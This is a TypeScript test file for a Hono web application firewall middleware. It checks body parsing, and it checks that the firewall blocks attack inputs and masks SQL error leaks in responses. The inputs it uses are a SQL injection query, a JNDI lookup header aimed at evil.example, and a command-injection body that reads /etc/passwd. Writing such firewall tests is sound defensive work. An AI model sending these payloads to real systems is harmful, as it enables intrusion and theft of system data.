/**
 * The WAF in the Hono middleware: the shared WAF conformance suite (mamori/testing), on an app
 * whose c.req parsers read the body (from Hono's body cache, which holds the bytes the WAF
 * read); and what is Hono's own: c.req.parseBody() reads the multipart parts from that same
 * cache, and without @hono/node-server's bindings the Web Request alone is inspected.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { Hono, type Context } from 'hono';
import { serve } from '@hono/node-server';
import { createGuard, defaultConfig, MemoryStore, type Guard } from 'mamori';
import { ADAPTER_APP, runWafAdapterConformance, sharedData, WAF_APP, type WafAdapterServer, type WafSeen } from 'mamori/testing';
import { mamoriHono } from './index.js';

async function listen(app: Hono): Promise<{ url: string; close(): Promise<void> }> {
  const server = await new Promise<ReturnType<typeof serve>>((resolve) => {
    const s = serve({ fetch: app.fetch, hostname: '127.0.0.1', port: 0 }, () => resolve(s));
  });
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () =>
      new Promise<void>((resolve, reject) => {
        server.close((err) => (err ? reject(err) : resolve()));
        if ('closeAllConnections' in server) server.closeAllConnections();
      }),
  };
}

/** The app of the WAF conformance suite (see WAF_APP). */
async function start(guard: Guard): Promise<WafAdapterServer> {
  const seen: WafSeen[] = [];
  const app = new Hono();
  app.use(mamoriHono(guard));
  const record = async (path: string, c: Context) => {
    const type = c.req.header('content-type') ?? '';
    const body = c.req.method === 'GET' ? undefined : type.includes('form-urlencoded') ? await c.req.parseBody() : type.includes('json') ? await c.req.json() : await c.req.text();
    seen.push({ method: c.req.method, path, query: c.req.query(), body });
    return body;
  };
  for (const path of WAF_APP.paths) {
    app.all(path, async (c) => {
      await record(path, c);
      return c.json({ ok: true });
    });
  }
  app.post(WAF_APP.login, async (c) => {
    const body = (await record(WAF_APP.login, c)) as { password?: string };
    if (body.password === ADAPTER_APP.password) {
      c.header('set-cookie', ADAPTER_APP.sessionCookie);
      return c.redirect(ADAPTER_APP.successLocation, 302);
    }
    return c.text('wrong email or password', 401);
  });
  app.get(WAF_APP.debug.path, async (c) => {
    await record(WAF_APP.debug.path, c);
    c.header(WAF_APP.debug.header, WAF_APP.debug.value);
    c.header('set-cookie', WAF_APP.debug.cookie);
    return c.text(WAF_APP.debug.body);
  });
  return { ...(await listen(app)), seen };
}

runWafAdapterConformance('hono', start);

const crs = sharedData('crs', 'MAMORI_CRS_DIR');
const libinjection = sharedData('libinjection', 'MAMORI_LIBINJECTION_DIR');
const BROWSER = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', accept: 'text/html,application/xhtml+xml' };
const JSON_TYPE = { 'content-type': 'application/json', accept: 'application/json' };
const MULTIPART_BODY = '--b1\r\nContent-Disposition: form-data; name="title"\r\n\r\nSpring tea\r\n--b1\r\nContent-Disposition: form-data; name="note"\r\n\r\nleaves from Shizuoka\r\n--b1--\r\n';

describe('mamoriHono: what the WAF does in Hono alone', { skip: crs.missing ?? libinjection.missing }, () => {
  let dir: string;
  let guard: Guard;
  let app: Hono;
  let server: { url: string; close(): Promise<void> };
  const seen: unknown[] = [];
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'mamori-waf-hono-'));
    guard = createGuard(defaultConfig({ data_dir: dir, waf: { crs: crs.dir, libinjection: libinjection.dir, own_rules: false } }), { store: new MemoryStore(), secret: Buffer.alloc(32, 7) });
    app = new Hono();
    app.use(mamoriHono(guard, { clientIp: () => '192.0.2.9' }));
    app.get('/item', (c) => {
      seen.push(c.req.query());
      return c.text('ok');
    });
    app.get('/products', (c) => {
      seen.push(c.req.query());
      return c.text('ok');
    });
    app.post('/upload', async (c) => {
      seen.push({ ...(await c.req.parseBody()) });
      return c.text('ok');
    });
    app.post('/api/*', async (c) => {
      seen.push(await c.req.json());
      return c.text('ok');
    });
    server = await listen(app);
  });
  after(async () => {
    await server.close();
    await guard.close();
    await guard.store.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it("c.req.parseBody() reads multipart parts from the bytes the WAF read", async () => {
    const r = await fetch(`${server.url}/upload`, { method: 'POST', headers: { ...BROWSER, 'content-type': 'multipart/form-data; boundary=b1' }, body: MULTIPART_BODY });
    assert.equal(r.status, 200);
    assert.deepEqual(seen.at(-1), { title: 'Spring tea', note: 'leaves from Shizuoka' });
  });

  it('without node bindings, reads the URL, headers and body of the Web Request', async () => {
    const ok = await app.request('/api/orders', { method: 'POST', headers: { ...BROWSER, ...JSON_TYPE }, body: '{"qty":2}' });
    assert.equal(ok.status, 200);
    assert.deepEqual(seen.at(-1), { qty: 2 });
    const before = seen.length;
    const q = await app.request('/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--', { headers: BROWSER });
    assert.equal(q.status, 403);
    const h = await app.request('/products', { headers: { ...BROWSER, 'x-api-version': '${jndi:ldap://evil.example/a}' } });
    assert.equal(h.status, 403);
    const b = await app.request('/api/ping', { method: 'POST', headers: { ...BROWSER, ...JSON_TYPE }, body: '{"host":"127.0.0.1; cat /etc/passwd"}' });
    assert.equal(b.status, 403);
    assert.equal(seen.length, before);
    await guard.store.events.flush();
    assert.equal((await guard.store.events.query({ action: 'waf-blocked' })).filter((e) => e['source.ip'] === '192.0.2.9').length, 3);
  });
});

describe('mamoriHono: phase 4 on the answer (response_body: true)', { skip: crs.missing ?? libinjection.missing }, () => {
  const LEAK = "<p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''' at line 1</p>";
  let dir: string;
  let guard: Guard;
  let server: { url: string; close(): Promise<void> };
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'mamori-waf-hono-p4-'));
    guard = createGuard(defaultConfig({ data_dir: dir, waf: { crs: crs.dir, libinjection: libinjection.dir, own_rules: false, response_body: true } }), { store: new MemoryStore(), secret: Buffer.alloc(32, 7) });
    const app = new Hono();
    app.use(mamoriHono(guard, { clientIp: () => '192.0.2.10' }));
    app.get('/leak', (c) => c.html(LEAK));
    app.get('/leak-big', (c) => c.html(LEAK + '<p>padding</p>'.repeat(60_000)));
    app.get('/page', (c) => c.html('<p>Sencha, 100 g</p>'));
    app.get('/big', (c) => c.html('<p>Gyokuro, 50 g</p>'.repeat(60_000)));
    server = await listen(app);
  });
  after(async () => {
    await server.close();
    await guard.close();
    await guard.store.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('replaces an answer whose body leaks an SQL error, small or over the limit (its start is read); benign ones go as sent', async () => {
    for (const path of ['/leak', '/leak-big']) {
      const r = await fetch(`${server.url}${path}`, { headers: BROWSER });
      assert.equal(r.status, 403, path);
      assert.ok(!(await r.text()).includes('SQL syntax'), path);
    }
    const ok = await fetch(`${server.url}/page`, { headers: BROWSER });
    assert.equal(ok.status, 200);
    assert.equal(await ok.text(), '<p>Sencha, 100 g</p>');
    const big = await fetch(`${server.url}/big`, { headers: BROWSER });
    assert.equal(big.status, 200);
    assert.equal(await big.text(), '<p>Gyokuro, 50 g</p>'.repeat(60_000), 'all of a large answer reaches the client');
  });
});
